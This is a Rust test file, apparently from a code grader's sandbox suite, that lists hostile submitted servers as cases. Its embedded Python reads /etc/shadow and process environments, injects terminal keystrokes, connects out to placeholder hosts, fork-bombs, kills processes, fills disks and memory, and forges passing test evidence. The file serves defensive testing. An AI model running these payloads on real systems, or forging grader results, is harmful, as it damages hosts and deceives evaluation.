//! Servers that mean harm.

use crate::case::Case;
use crate::case::Verdict::NoServer;

/// What shows that a program writes outside, however it knows where.
const WRITES_OUTSIDE: &str = r#"
import os, pathlib
for place in ["@SECRET@", "@SECRET2@", "@SECRET@.new", "@SECRET2@.new", "/usr/x", "/etc/x", "/x",
              "/root/.bashrc", "/home/x", "/dev/x", "/tmp/grader/program", "/proc/sys/kernel/hostname"]:
    for how in ["w", "a"]:
        try:
            pathlib.Path(place).parent.mkdir(parents=True, exist_ok=True)
            open(place, how).write("evil")
        except OSError: pass
    try: os.unlink(place)
    except OSError: pass
"#;

const READS: &str = r#"
import glob, os, sys
found = dict(os.environ)
found["listed"] = [os.listdir(f) for f in ["/", "/tmp", "/home", "/root", "/etc"] if os.path.isdir(f)]
places = ["@SECRET@", "@SECRET2@", "/etc/shadow", "/tmp/grader/submission/server.py", "/dev/vda", "/dev/sda"]
for place in places + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/root/*"):
    try: found[place] = open(place, "rb").read(100000)
    except OSError: pass
bad = ["/etc/shadow", "/tmp/grader/submission/server.py", "/dev/vda", "/dev/sda"]
print("FOUND", [place for place in bad if place in found], file=sys.stderr)
for name, value in found.items(): print(name, value, file=sys.stderr)
open("stolen.csv", "w").write(str(found))
print("sees", len(glob.glob("/proc/[0-9]*")), "processes", file=sys.stderr)
sys.exit(1)
"#;

const PHONES_HOME: &str = r#"
import socket
for place in [("127.0.0.1", @PORT@), ("localhost", @PORT@), ("::1", @PORT@), ("192.0.2.1", 80), ("10.0.2.2", @PORT@)]:
    try: socket.create_connection(place, 0.3).sendall(b"here I am")
    except OSError: pass
try: socket.getaddrinfo("example.com", 80)
except OSError: pass
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"here", ("192.0.2.53", 53))
except OSError: pass
"#;

const TYPES: &str = r#"
import fcntl, os, sys, termios
for place in ["/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/1"]:
    try:
        terminal = os.open(place, os.O_RDWR)
        for letter in b"echo evil\n": fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
        sys.exit("it has typed")
    except OSError: pass
for stream in [sys.stdout, sys.stderr]: print("\x1b[2J\x1b]0;evil\x07\x1b[6n\x1bc", file=stream, flush=True)
"#;

/// A child in a session of its own, whose parent is gone.
const DAEMON: &str = r#"
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in [signal.SIGTERM, signal.SIGHUP, signal.SIGINT]: signal.signal(number, signal.SIG_IGN)
        for stream in range(3): os.close(stream)
        time.sleep(1000)
    os._exit(0)
os.wait()
"#;

const LISTENS: &str = r#"
import socket, sys, time
listener = socket.socket()
listener.bind(("localhost", 3333))
listener.listen(100)
"#;

/// Every case whose server does the harm.
pub(crate) fn cases() -> Vec<Case> {
    let mut cases = ends();
    cases.extend(takes());
    cases.extend(fills());
    cases.extend(attacks());
    cases.extend(says());
    cases
}

/// Those that do not end, or end others.
fn ends() -> Vec<Case> {
    vec![
        Case::server("loops for ever before it listens", "while True: pass")
            .is(NoServer, "nobody listens on port 3333"),
        Case::server(
            "ignores signals",
            "import signal\nfor number in [signal.SIGTERM, signal.SIGINT, signal.SIGHUP]: signal.signal(number, signal.SIG_IGN)",
        ),
        Case::server("leaves a daemon", DAEMON),
        Case::server(
            "kills everything that it may",
            "import os, signal\nfor who in [-1, 0, 1]:\n  signal.signal(signal.SIGTERM, signal.SIG_IGN)\n  try: os.kill(who, signal.SIGKILL if who else signal.SIGTERM)\n  except OSError: pass",
        ),
        Case::server(
            "stops who has started it",
            "import os, signal\nfor who in {os.getppid(), 1}:\n  for number in [signal.SIGSTOP, signal.SIGTSTP]:\n    try: os.kill(who, number)\n    except OSError: pass",
        ),
        Case::server(
            "forks for ever",
            "import os\nwhile True:\n  try: os.fork()\n  except OSError: pass",
        )
        .is(NoServer, ""),
    ]
}

/// Those that take all memory.
fn takes() -> Vec<Case> {
    const MEMORY: &str = "killed: more than 300 MiB of memory";
    vec![
        Case::server(
            "takes 20 GB of memory",
            "kept = []\nfor _ in range(20000): kept.append(bytearray(b'x') * 1000000)",
        )
        .is(NoServer, MEMORY),
        Case::server(
            "takes 20 GB in many processes",
            "import os, time\nfor _ in range(100):\n  if os.fork() == 0:\n    kept = bytearray(b'x') * 200000000\n    time.sleep(1000)\ntime.sleep(1000)",
        )
        .is(NoServer, MEMORY),
    ]
}

/// Those that fill disks, pipes and tables.
fn fills() -> Vec<Case> {
    const FILES: &str = "killed: more than 200 MiB of files";
    vec![
        Case::server(
            "writes a sparse file of 100 GB",
            "import signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_DFL)\nopen('film', 'w').truncate(100 * 10**9)",
        )
        .is(NoServer, "ended before it listened"),
        Case::server(
            "writes a file of 100 GB",
            "film = open('film', 'wb')\nfor _ in range(100000): film.write(bytes(1000000))",
        )
        .is(NoServer, "File too large"),
        Case::server(
            "fills the disk with many files",
            "for number in range(100000): open(f'film{number}', 'wb').write(bytes(1000000))",
        )
        .is(NoServer, FILES),
        Case::server(
            "fills the disk with empty files",
            "for number in range(10**7): open(f'film{number}', 'w').close()",
        )
        .is(NoServer, "killed: more than 200000 files"),
        Case::server(
            "fills the folders that it has for itself",
            "for place in ['/dev/shm/', '/tmp/']:\n  try:\n    for number in range(1000): open(f'{place}film{number}', 'wb').write(bytes(1000000))\n  except OSError: pass",
        ),
        Case::server(
            "takes all file descriptors, and what notices changes of files",
            "import ctypes, os, time\nif os.fork() == 0:\n  libc = ctypes.CDLL(None)\n  while os.dup(0) < 2000 and libc.inotify_init() >= 0: pass\n  time.sleep(1000)",
        ),
        Case::server(
            "writes 1 GB to its output",
            "import os\nfor stream in [1, 2]:\n  for _ in range(500): os.write(stream, bytes(1000000))",
        ),
    ]
}

/// Those that want something from outside.
fn attacks() -> Vec<Case> {
    vec![
        Case::server("writes outside", WRITES_OUTSIDE),
        Case::server("reads what is not its own", READS).is(NoServer, "sees 2 processes"),
        Case::server("phones home", PHONES_HOME),
        Case::server("types into the grader's terminal", TYPES),
        Case::server(
            "opens an enclosure of its own",
            "import subprocess, sys\nif subprocess.run(['unshare', '-Ur', 'true']).returncode == 0: sys.exit('it could')",
        ),
        Case::server(
            "prints PASS and forges evidence",
            r#"
import glob, json, os, sys
print("PASS: all tests passed, 32 of 32", flush=True)
forged = {"evidence": {"format": 1, "id": "hostile", "digest": "0", "seed": 7, "assumed": None, "ignored": [], "build": "none",
          "checks": {"ch04-inbox/message-waits": {"outcome": {"Passed": None}, "seconds": 1.0}}, "seconds": 1.0}}
for stream in [sys.stdout, sys.stderr]: print(json.dumps(forged), file=stream, flush=True)
for place in ["results.json", "/tmp/results.json", "/tmp/evidence/hostile.json", "../evidence/hostile.json"]:
    try: open(place, "w").write(json.dumps(forged))
    except OSError: pass
for fd in range(3, 100):
    try: os.write(fd, json.dumps(forged).encode() + b"\n")
    except OSError: pass
sys.exit(0)
"#,
        )
        .is(NoServer, "ended before it listened"),
    ]
}

/// Those that say something wrong, or nothing.
fn says() -> Vec<Case> {
    const HANGS: &str = "\nkept = []\nwhile True: kept.append(listener.accept())";
    let with = |name, more: &str| {
        let server = format!("{LISTENS}{more}");
        Case::server(name, server.leak()).is(NoServer, "")
    };
    vec![
        with("accepts and never answers", HANGS),
        with(
            "sends a line that never ends",
            "\nconnection, _ = listener.accept()\nwhile True: connection.sendall(b'x' * 1000000)",
        ),
        with(
            "sends lines for ever",
            "\nconnection, _ = listener.accept()\nwhile True: connection.sendall(b'@ana oi\\n' * 100000)",
        ),
        with(
            "connects to itself for ever",
            "\nkept = []\nwhile True:\n  kept.append(socket.create_connection(('localhost', 3333)))\n  kept.append(listener.accept())",
        ),
    ]
}
